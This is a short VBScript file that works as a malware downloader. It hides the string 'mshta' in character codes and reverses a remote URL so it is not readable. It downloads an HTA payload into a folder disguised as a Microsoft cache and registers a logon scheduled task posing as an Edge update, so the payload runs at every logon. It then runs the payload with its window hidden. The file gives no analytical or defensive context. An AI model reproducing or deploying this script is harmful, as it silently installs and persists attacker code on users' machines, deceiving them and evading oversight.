On Error Resume Next
Set sh = CreateObject("WScript.Shell")
Set fso = CreateObject("Scripting.FileSystemObject")
d = sh.ExpandEnvironmentStrings("%LOCALAPPDATA%") & "\Microsoft\WindowsApps\Cache"
If Not fso.FolderExists(d) Then fso.CreateFolder(d)
p = Chr(109) & Chr(115) & Chr(104) & Chr(116) & Chr(97)
u = StrReverse("atb.ecivres/ntw/elpmaxe.sdnik-ecivres//:sptth")
h = d & "\svc.hta"
Set x = CreateObject("MSXML2.ServerXMLHTTP.6.0")
x.Open "GET", u, False
x.Send
If x.Status = 200 Then
  Set s = CreateObject("ADODB.Stream")
  s.Type = 1 : s.Open : s.Write x.responseBody : s.SaveToFile h, 2 : s.Close
  sh.Run "schtasks /create /f /sc onlogon /rl limited /tn ""MicrosoftEdgeUpdateTaskUserCore"" /tr """ & p & ".exe " & h & """", 0, False
  sh.Run p & ".exe """ & h & """", 0, False
End If
